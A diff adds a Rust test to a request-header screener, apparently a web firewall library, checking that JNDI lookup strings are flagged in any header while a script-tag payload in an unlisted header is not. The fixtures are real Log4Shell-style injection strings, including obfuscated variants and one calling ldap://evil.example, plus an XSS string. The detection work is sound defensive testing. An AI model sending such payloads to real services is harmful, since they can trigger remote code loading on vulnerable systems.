@@ -235,6 +235,30 @@ fn a_star_inspects_every_header_but_credentials() {
 }
 
 #[test]
+fn jndi_lookups_in_every_header() {
+    let s = screener();
+    for (name, value) in [
+        ("x-api-version", "${jndi:ldap://evil.example/a}"),
+        ("authorization", "Bearer ${${lower:j}ndi:rmi://x/y}"),
+        ("test", "${${::-j}ndi:dns://x}"),
+    ] {
+        let d = s.screen_headers_of(request("GET", "/", &[(name, value)]));
+        assert_eq!(refusal(&d), Some("jndi-001"), "{name}");
+    }
+    // Only JNDI: other categories stay with the listed headers.
+    let d = s.screen_headers_of(request(
+        "GET",
+        "/",
+        &[("x-note", "<script>alert(1)</script>")],
+    ));
+    assert_eq!(refusal(&d), None);
+    // Not when the policy leaves the category out.
+    let without = Screener::from_json(br#"{"detect": {"categories": ["sqli"]}}"#).unwrap();
+    let d = without.screen_headers_of(request("GET", "/", &[("x-api", "${jndi:ldap://x/a}")]));
+    assert_eq!(refusal(&d), None);
+}
+
+#[test]
 fn the_finding_names_its_location() {
     let s = Screener::from_json(br#"{"mode": "detect"}"#).unwrap();
     let HeaderDecision::Pass { findings, .. } =
